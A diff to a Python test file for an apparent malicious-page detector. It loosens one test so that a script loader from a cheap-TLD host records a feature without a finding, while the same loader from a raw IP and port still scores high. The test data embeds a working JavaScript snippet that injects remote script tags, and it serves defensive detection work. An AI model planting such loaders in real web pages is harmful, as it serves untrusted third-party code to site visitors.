@@ -183,12 +183,12 @@ def test_hidden_iframe_to_a_throwaway_host_is_high_and_to_an_ordinary_one_is_a_f
     assert not findings and feats["SEO302.tiny_hidden_iframes_log"] > 0
 
 
-def test_loader_from_a_cheap_tld_alone_is_weak_but_with_a_raw_ip_is_high():
+def test_loader_from_a_cheap_tld_alone_is_a_feature_but_with_a_raw_ip_is_high():
     loader = ('<script>(function(d,s){{var x=d.createElement(s);x.async=1;x.src="{}/t.js?"+Math.random();'
               'd.getElementsByTagName("head")[0].appendChild(x)}})(document,"script");</script>')
     weak = page_from_text(_html(loader.format("https://widgets.recommend.cc")), mode="html")
     findings, feats = run(weak)
-    assert findings and max(weight(f) for f in findings) <= 0.16 and feats["SEO302.writes_foreign_resource"] == 1.0
+    assert not findings and feats["SEO302.writes_foreign_resource"] == 1.0
     strong = page_from_text(_html(loader.format("http://185.234.72.19:8081")), mode="html")
     findings, _ = run(strong)
     assert max(weight(f) for f in findings) >= 0.6
